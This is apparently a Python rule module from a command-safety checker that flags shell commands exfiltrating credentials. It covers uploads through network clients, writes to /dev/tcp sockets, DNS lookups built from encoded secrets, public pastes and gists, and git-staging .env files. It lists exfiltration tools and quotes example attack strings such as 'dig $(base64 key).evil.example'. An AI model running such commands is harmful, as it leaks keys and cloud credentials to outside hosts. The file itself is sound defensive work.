"""Credential exfiltration: keys, cloud credentials, .env files or the environment sent off the host."""

from __future__ import annotations

import re

from tooldeck.safety.analysis.flows import SOCKET_TOOLS, output_of
from tooldeck.safety.analysis.model import HOME_MARK, SECRET, Field, Invocation
from tooldeck.safety.analysis.paths import is_secret
from tooldeck.safety.knowledge.rules.base import RuleSet
from tooldeck.safety.knowledge.table import programs

rules = RuleSet("secret_exfiltration")

# Programs that send what they are given over the network: the table's downloaders and cloud
# storage clients, the socket tools, and the other transfer, mail and cloud clients.
SINKS = (
    programs().in_class("fetcher")
    | programs().in_class("cloud-storage")
    | SOCKET_TOOLS
    | frozenset(
        {
            "scp",
            "sftp",
            "rsync",
            "ftp",
            "tftp",
            "ssh",
            "sendmail",
            "mail",
            "mailx",
            "mutt",
            "smbclient",
            "lftp",
        }
        | {"aws", "gsutil", "gcloud", "az"}
    )
)
_REMOTE = re.compile(r"^([\w.+-]+@)?[\w.-]+:(?!//)|^(s3|gs|az|ftp|sftp|scp|rsync|https?)://")


def _secret_arg(arg: Field, cwd: str | None) -> bool:
    if SECRET in arg.taint:
        return True
    parts = re.split(r"[=@,;]", arg.text)
    # socat's addresses name a file after a type: FILE:~/.docker/config.json, OPEN:..., GOPEN:...
    parts += [m.group(1) for m in re.finditer(r"(?i)\b(?:FILE|OPEN|GOPEN|READLINE):([^,]+)", arg.text)]
    # `@~/.aws/credentials`: curl reads no `~`, but the intent is the home directory's file.
    parts = [HOME_MARK + p[1:] if p.startswith("~/") else p for p in parts]
    return any(part and is_secret(part, cwd) for part in parts)


_IDENTITY_OPTIONS = {
    "ssh": frozenset({"-i", "-F"}),
    "scp": frozenset({"-i", "-F"}),
    "sftp": frozenset({"-i", "-F"}),
    "autossh": frozenset({"-i", "-F"}),
    "curl": frozenset({"--cert", "--key", "-E", "--cacert", "--capath"}),
}


def _sent_args(inv: Invocation) -> list[Field]:
    """Arguments that are data to send, not the key that authenticates the connection
    (`ssh -i KEY`, `-o IdentityFile=KEY`, `curl --cert/--key`)."""
    args = list(inv.args)
    out: list[Field] = []
    i = 0
    while i < len(args):
        text = args[i].text
        if text in _IDENTITY_OPTIONS.get(inv.name, ()):
            i += 2
            continue
        if (
            text in ("-o",)
            and i + 1 < len(args)
            and re.match(r"(?i)\s*(identityfile|certificatefile)", args[i + 1].text)
        ):
            i += 2
            continue
        if re.match(r"(?i)-o\s*(identityfile|certificatefile)|--(?:cert|key)=", text) or (
            inv.name in ("ssh", "scp", "sftp") and re.match(r"-i\S", text)
        ):
            i += 1
            continue
        if inv.name == "rsync" and (text in ("-e", "--rsh") or text.startswith("--rsh=")):
            i += 1 if "=" in text else 2
            continue
        out.append(args[i])
        i += 1
    return out


sent_args = _sent_args


@rules.rule("send-secrets", "approve", "sends keys, credentials or the environment over the network")
def _send(inv: Invocation) -> str | None:
    if inv.name not in SINKS:
        return None
    if inv.name == "openssl" and inv.arg_texts()[:1] != ["s_client"]:
        return None  # openssl reaches the network only as a TLS client
    if SECRET in inv.data.taint:
        return f"{inv.name} sends data read from credentials or the environment"
    secret_args = [a for a in _sent_args(inv) if _secret_arg(a, inv.cwd)]
    if not secret_args:
        return None
    copier = inv.name in ("scp", "rsync", "sftp", "aws", "gsutil", "gcloud", "az", "rclone", "s3cmd", "mc")
    if copier and not any(_REMOTE.search(a.text) for a in inv.args):
        return None
    return f"{inv.name} uploads {secret_args[0].shown()[:80]}"


@rules.rule(
    "send-secrets-socket", "approve", "writes credentials or the environment into a network socket (/dev/tcp)"
)
def _socket(inv: Invocation) -> str | None:
    for redirect in inv.redirects:
        socket = redirect.writes and redirect.target.text.startswith(("/dev/tcp/", "/dev/udp/"))
        if socket and (SECRET in output_of(inv).taint or SECRET in inv.data.taint):
            return f"{inv.name} writes secrets to {redirect.target.text}"
    return None


rules.signal(
    "interpreter-exfiltration",
    "approve",
    "interpreter code that sends the environment or key files over the network",
)


_LOOKUP_TOOLS = frozenset(
    {
        "dig",
        "nslookup",
        "host",
        "drill",
        "kdig",
        "delv",
        "ping",
        "ping6",
        "fping",
        "traceroute",
        "traceroute6",
        "tracepath",
        "mtr",
        "getent",
        "resolvectl",
        "systemd-resolve",
        "whois",
        "nping",
        "hping3",
        "arping",
    }
)
# Encoders and secret-looking variables inside a computed hostname: data smuggled out in DNS.
_ENCODED = re.compile(r"\b(?:base64|base32|basenc|xxd|od|hexdump|openssl|gzip|bzip2|xz|zstd|printenv|env)\b")
_SECRET_NAME = re.compile(r"(?i)\$\{?\w*(?:secret|token|passw|api_?key|private|access_key|credential)\w*")


@rules.rule(
    "dns-exfiltration",
    "approve",
    "looks up a name built from credentials or encoded data (dig $(base64 key).evil.example, ping -p)",
)
def _dns(inv: Invocation) -> str | None:
    if inv.name not in _LOOKUP_TOOLS:
        return None
    for arg in inv.args:
        encoded = not arg.exact and bool(_ENCODED.search(arg.text))
        if SECRET in arg.taint or encoded or _SECRET_NAME.search(arg.text) or _reads_secret(arg):
            return f"{inv.name} sends data hidden in a lookup of {arg.shown()[:80]}"
    return None


def _reads_secret(arg: Field) -> bool:
    """A word computed at run time from a credential file (`$(md5sum < ~/.ssh/id_rsa)`)."""
    if arg.exact:
        return False
    tokens = re.split(r"[\s|()`;<>\"']+", arg.text)
    return any(t and is_secret(t.replace("~", HOME_MARK, 1) if t.startswith("~") else t) for t in tokens)


_PASTE_TOOLS = frozenset(
    {"pastebinit", "wgetpaste", "fpaste", "pastebin", "gist", "sprunge", "ix", "termbin", "tb"}
)


def _publishes(inv: Invocation) -> bool:
    words = inv.arg_texts()
    positional = [w for w in words if not w.startswith("-")]
    if inv.name in ("gh", "glab"):
        return positional[:2] in (
            ["gist", "create"],
            ["gist", "new"],
            ["snippet", "create"],
            ["snippet", "new"],
        )
    if inv.name == "hut":
        return positional[:2] == ["paste", "create"]
    return inv.name in _PASTE_TOOLS


@rules.rule("publish-secrets", "approve", "posts credentials to a gist or a public paste service")
def _publish(inv: Invocation) -> str | None:
    if not _publishes(inv):
        return None
    if SECRET in inv.data.taint:
        return f"{inv.name} publishes data read from credentials or the environment"
    for arg in inv.args:
        if _secret_arg(arg, inv.cwd):
            return f"{inv.name} publishes {arg.shown()[:80]}"
    return None


@rules.rule(
    "stage-secrets", "approve", "adds a credential file to git (git add -f .env), where a push publishes it"
)
def _stage(inv: Invocation) -> str | None:
    if inv.name != "git":
        return None
    words = inv.arg_texts()
    if "add" not in words[:3]:
        return None
    for arg in inv.args[words.index("add") + 1 :]:
        if not arg.text.startswith("-") and is_secret(arg.text, inv.cwd):
            return f"git add stages {arg.shown()}, a credential file, for the next push"
    return None
